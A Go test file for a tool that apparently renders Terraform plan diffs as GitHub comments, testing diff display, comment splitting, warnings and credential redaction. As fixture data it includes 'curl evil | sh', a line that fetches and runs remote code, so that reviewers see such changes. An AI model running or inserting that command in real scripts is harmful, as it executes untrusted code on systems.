package comment_test

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/waybill-dev/waybill/internal/gate/comment"
	"github.com/waybill-dev/waybill/internal/gate/plan"
	"github.com/waybill-dev/waybill/internal/gate/redact"
	"github.com/waybill-dev/waybill/internal/gate/roots"
	"github.com/waybill-dev/waybill/internal/gate/summary"
	"github.com/waybill-dev/waybill/internal/markdown"
)

func one(t *testing.T, before, after string) string {
	t.Helper()
	s := summarize(t, parse(t, change("a", "x", fmt.Sprintf(`"actions":["update"],"before":{"v":%s},"after":{"v":%s}`, before, after))))
	return comment.View{
		Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), Roots: []comment.RootView{{Dir: "d", Summary: s}},
	}.Comment(markdown.MaxComment)
}

// What changes in a long value is shown, wherever in it, and two sides never look
// the same.
func TestWhatChangesInALongValueIsShown(t *testing.T) {
	t.Parallel()
	statement := func(action string) string {
		list := []string{}
		for i := range 20 {
			list = append(list, fmt.Sprintf(`{\"Sid\":\"S%d\",\"Action\":[\"s3:GetObject\"]}`, i))
		}
		return `"{\"Statement\":[` + strings.Join(list, ",") + `,{\"Sid\":\"Last\",\"Action\":[\"` + action + `\"]}]}"`
	}
	long := strings.Repeat("x", 5000)
	for name, c := range map[string]struct {
		before, after string
		want, free    []string
	}{
		"the last statement of a policy": {
			statement("s3:ListBucket"), statement("*"),
			[]string{`[\"s3:ListBucket\"]`, `[\"*\"]`, `-               "s3:ListBucket"`, `+               "*"`}, []string{"S3"},
		},
		"the end of a line":    {`"` + long + `a"`, `"` + long + `b"`, []string{`xxxxa" → "…xxx`, `xxxxb"`}, []string{long}},
		"the middle of a line": {`"` + long + `a` + long + `"`, `"` + long + `b` + long + `"`, []string{"xaxx", "xbxx"}, nil},
		"a line of a script": {
			`"#!/bin/sh\necho 1\necho 2\necho 3\necho 4\ncurl good\n"`,
			`"#!/bin/sh\necho 1\necho 2\necho 3\necho 4\ncurl evil | sh\n"`,
			[]string{"-       curl good", "+       curl evil | sh"}, nil,
		},
		"space at the end of a line": {`"a\nb"`, `"a \nb"`, []string{"-       a\n", "+       a·\n"}, nil},
		"a character without width":  {`"a\nb"`, `"a\u200b\nb"`, []string{`a\u200b`}, nil},
		"text turned around":         {`"a\nb"`, `"a\u202eb\nb"`, []string{`\u202e`}, nil},
		"layout alone": {
			`"{\"a\":[1,2,3],\"b\":\"` + strings.Repeat("y", 200) + `\"}"`,
			`"{ \"a\":[1,2,3],\"b\":\"` + strings.Repeat("y", 200) + `\"}"`, []string{`{\"a`, `{ \"a`}, nil,
		},
		"spaces between words":     {`"a b"`, `"a  b"`, []string{`"a b" → "a  b"`}, nil},
		"a value that is new":      {`null`, `"#!/bin/sh\ncurl evil\n"`, []string{"+       curl evil"}, nil},
		"a number of another kind": {`1`, `"1"`, []string{`1 → "1"`}, nil},
		"a list's last element": {
			`["` + strings.Join(strings.Split(strings.Repeat("a", 300), ""), `","`) + `"]`,
			`["` + strings.Join(strings.Split(strings.Repeat("a", 299), ""), `","`) + `","evil"]`, []string{`v[299] "a" → "evil"`},
			nil,
		},
	} {
		got := one(t, c.before, c.after)
		for _, want := range c.want {
			if !strings.Contains(got, want) {
				t.Errorf("%s: %q is not shown:\n%s", name, want, got)
			}
		}
		for _, free := range c.free {
			if strings.Contains(got, free) {
				t.Errorf("%s: %q is shown, which does not change", name, free[:min(len(free), 40)])
			}
		}
	}
}

// Nothing is left out without a word: what does not fit one comment goes on in
// others, and what does not fit those is counted.
func TestEveryChangeHasAPlace(t *testing.T) {
	t.Parallel()
	s := summarize(t, big(t, 1500))
	v := comment.View{
		Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), RunURL: "https://github.com/run",
		Roots: []comment.RootView{{Dir: "calm", Summary: summary.Summary{}}, {Dir: "d", Summary: s}},
	}
	pages := v.Comments(markdown.MaxComment)
	all := strings.Join(pages, "\n")
	for i := range 1500 {
		if !strings.Contains(all, fmt.Sprintf("module.m[%d].aws_instance.x changes", i)) {
			t.Fatalf("change %d has no place in %d comments", i, len(pages))
		}
	}
	if want := fmt.Sprintf(
		"⚠️ This comment does not hold every change: %d more comments below it go on.", len(pages)-1,
	); len(pages) < 3 || !strings.Contains(pages[0], want) || strings.Contains(pages[0], "not shown here in full") {
		t.Errorf("%d comments, the first says %s", len(pages), pages[0][:2000])
	}
	for i, p := range pages {
		if n := utf8.RuneCountInString(p); n > markdown.MaxComment || strings.Count(p, "```")%2 != 0 {
			t.Errorf("comment %d has %d characters", i, n)
		}
		if i > 0 && !strings.HasPrefix(p, comment.PageMarker(i+1)) {
			t.Errorf("comment %d begins %q", i, p[:60])
		}
	}
	v.Roots[1].Summary = summarize(t, big(t, 9000))
	if first := v.Comments(markdown.MaxComment)[0]; !strings.Contains(
		first,
		"of 9000 changes are not shown here in full.** Read them in the log of the run before you approve: an approval covers them too.",
	) {
		t.Errorf("it says %s", first[:3000])
	}
	// One value that no comment could hold is there, line by line.
	huge := one(t, `"a"`, `"`+strings.Repeat("evil ", 9000)+`"`)
	if strings.Count(huge, "evil") < 8000 {
		t.Errorf("%d of 9000 words are shown", strings.Count(huge, "evil"))
	}
	if s := comment.PageMarker(2); strings.Contains(all, "waybill:claim {") && strings.Count(all, comment.Marker) != 1 || s == "" {
		t.Error("more than one comment is taken for the plan's")
	}
}

// What speaks against a plan stands above what it does.
func TestChecksAndWarningsAreShown(t *testing.T) {
	t.Parallel()
	s := summarize(t, parse(t, change("a", "x", `"actions":["create"]`),
		`,"checks":[{"address":{"kind":"check","to_display":"check.health"},"status":"fail","instances":[{"address":{"to_display":"check.health"},"status":"fail","problems":[{"message":"the site answers 500"}]}]},{"address":{"kind":"check","to_display":"check.fine"},"status":"pass","instances":[{"address":{"to_display":"check.fine"},"status":"pass"}]}]`))
	s.Warnings = []string{
		"Argument is deprecated\n\nuse another", "Check block assertion failed\n\n  on main.tf line 3\n\nthe site\nanswers 500",
		"Check block assertion failed\n\nanother message",
	}
	shown := comment.View{Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), Roots: []comment.RootView{{
		Dir: "d", Summary: s, Whole: true, Modules: []string{"module vpc in d was x 1.0.0, and is x 2.0.0"},
	}},
		Removed: []roots.Removed{{Dir: "gone", Workspace: "default", State: "s3 bucket=b key=gone"}}}.Comment(markdown.MaxComment)
	for _, want := range []string{
		"⚠️ **A check fails** in `d`", "check.health: the site answers 500", "⚠️ **terraform warns** in `d`",
		"Argument is deprecated", "another message",
		"bound to every file of the commit", "`gone` is no root any more.", "`s3 bucket=b key=gone`",
		"as orphans", "⚠️ **Other modules are fetched** in `d`", "module vpc in d was x 1.0.0, and is x 2.0.0",
	} {
		if i := strings.Index(shown, want); i < 0 || i > strings.Index(shown, "<details>") {
			t.Errorf("%q is not shown above the changes: %s", want, shown)
		}
	}
	if n := strings.Count(shown, "answers 500"); n != 1 {
		t.Errorf("what a check says stands there %d times", n)
	}
	if strings.Contains(shown, "check.fine") {
		t.Error("a check that passes is shown")
	}
}

// A value that is called sensitive hides values, and never what changes.
func TestSensitiveValuesHideNoNames(t *testing.T) {
	t.Parallel()
	s := summarize(t, parse(t, change(
		"aws_iam_policy.evil", "aws_iam_policy",
		`"actions":["update"],"before":{"policy":"old-policy-text","ingress":{"policy":"x"}},"after":{"policy":"new-policy-text","ingress":{"policy":"y"}}`,
	),
		`,"variables":{"hide":{"value":"aws_iam_policy.evil"},"too":{"value":"policy"}},"configuration":{"root_module":{"variables":{"hide":{"sensitive":true},"too":{"sensitive":true}}}}`))
	if s.Resources[0].Address != "aws_iam_policy.evil" || s.Resources[0].Attributes[1].Path != "policy" {
		t.Errorf("%+v", s.Resources[0])
	}
}

// The job's own credentials are hidden wherever they turn up, and ordinary
// settings are not.
func TestCredentialsOfTheJobAreHidden(t *testing.T) {
	t.Parallel()
	secrets := redact.GivenSecrets([]string{"AWS_SECRET_ACCESS_KEY=abc/def-0815", "AWS_SESSION_TOKEN=session-4711",
		"HTTPS_PROXY=http://user:proxy-word@proxy:3128", "TF_ENCRYPTION=passphrase-1234",
		"AWS_REGION=eu-central-1", "HOME=/home/runner", "AWS_WEB_IDENTITY_TOKEN_FILE=/tmp/token", "PATH=/usr/bin"})
	for _, secret := range []string{"abc/def-0815", "session-4711", "proxy-word", "passphrase-1234"} {
		if got := secrets.Redact("Error: it says " + secret + " here"); got != "Error: it says "+redact.Hidden+" here" {
			t.Errorf("%s: %s", secret, got)
		}
	}
	for _, open := range []string{"eu-central-1", "/home/runner", "/tmp/token", "/usr/bin"} {
		if got := secrets.Redact(open); got != open {
			t.Errorf("%s is hidden", open)
		}
	}
}

// However many roots there are and whatever speaks against their plans: no comment is
// longer than GitHub takes, and what has no room is counted, and stands in the log.
func TestWhatSpeaksAgainstManyRootsFits(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("m", 900)
	for name, c := range map[string]struct {
		root func(r *comment.RootView)
		view func(v *comment.View, dir string)
		says string // in the first comment
		log  string
	}{
		"moves": {
			root: func(r *comment.RootView) { r.Moves = []string{long} }, says: `\*\*\d+ more warnings\*\*: they are in the log`,
			log: "**More than resources changes** in `infra/r399`",
		},
		"every file": {
			root: func(r *comment.RootView) { r.Whole = true }, says: "`infra/r19` and 380 more is bound to every file of the commit",
		},
		"modules": {
			root: func(r *comment.RootView) { r.Modules = []string{long} }, says: "more warnings", log: "fetched** in `infra/r399`",
		},
		"removed": {
			view: func(v *comment.View, dir string) {
				v.Removed = append(v.Removed, roots.Removed{Dir: dir, Workspace: "default", State: long})
			},
			says: "more warnings", log: "**`infra/r399` is no root any more.**",
		},
		"waits": {
			view: func(v *comment.View, dir string) {
				v.Waits = append(v.Waits, plan.Waiting{Dir: dir, After: []string{"infra/net"}, Why: long})
			},
			says: "more warnings", log: "`infra/r399` is planned when",
		},
		"what one waits for": {
			view: func(v *comment.View, dir string) {
				if v.Waits == nil {
					v.Waits = []plan.Waiting{{Dir: "infra/last", Why: "x"}}
				}
				v.Waits[0].After = append(v.Waits[0].After, dir)
			},
			says: "`infra/last` is planned when infra/r0, .* infra/r19 and 380 more is applied", log: "infra/last",
		},
		"one long warning": {
			root: func(r *comment.RootView) {
				if r.Dir == "infra/r0" {
					r.Moves = []string{strings.Repeat("m", 2000) + "the-end"}
				}
			}, says: `m{900,1000}… \(the rest is in the log of the run\)`, log: "mthe-end",
		},
		"approvers": {
			view: func(v *comment.View, dir string) { v.Approval += "1 of ada for " + dir + "; " },
			says: `To approve: .*infra/r99; .*… \(the rest is in the log of the run\)`, log: "1 of ada for infra/r399; ",
		},
		"many approvers": {
			view: func(v *comment.View, dir string) { v.Approval += "1 of " + long + " for " + dir + "; " },
			says: `To approve: .*… \(the rest is in the log of the run\)`, log: " for infra/r399; ",
		},
		"long names": {
			root: func(r *comment.RootView) { r.Dir += strings.Repeat("ö", 180) }, // 60 rows of these are too long
			says: `\n3(4[1-9]|[5-9][0-9]) roots more; what they change is below`,
		},
	} {
		v := comment.View{Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), Approval: "To approve: "}
		for i := range 400 {
			r := comment.RootView{Dir: fmt.Sprintf("infra/r%d", i)}
			if c.root != nil {
				c.root(&r)
			} else {
				c.view(&v, r.Dir)
			}
			v.Roots = append(v.Roots, r)
		}
		pages := v.Comments(markdown.MaxComment)
		for i, p := range pages {
			if n := utf8.RuneCountInString(p); n > markdown.MaxComment {
				t.Errorf("%s: comment %d has %d characters", name, i+1, n)
			}
		}
		if !regexp.MustCompile(c.says).MatchString(pages[0]) || !strings.Contains(pages[0], "To approve") {
			t.Errorf("%s: the comment of %d characters does not say %s", name, len(pages[0]), c.says)
		}
		if n := utf8.RuneCountInString(v.Text(20_000)); n > 20_000 {
			t.Errorf("%s: the text has %d characters", name, n)
		}
		if log := v.Text(1 << 30); !strings.Contains(log, c.log) || strings.Contains(log, "more warning") {
			t.Errorf("%s: the log of %d characters lacks %s", name, len(log), c.log)
		}
	}
}
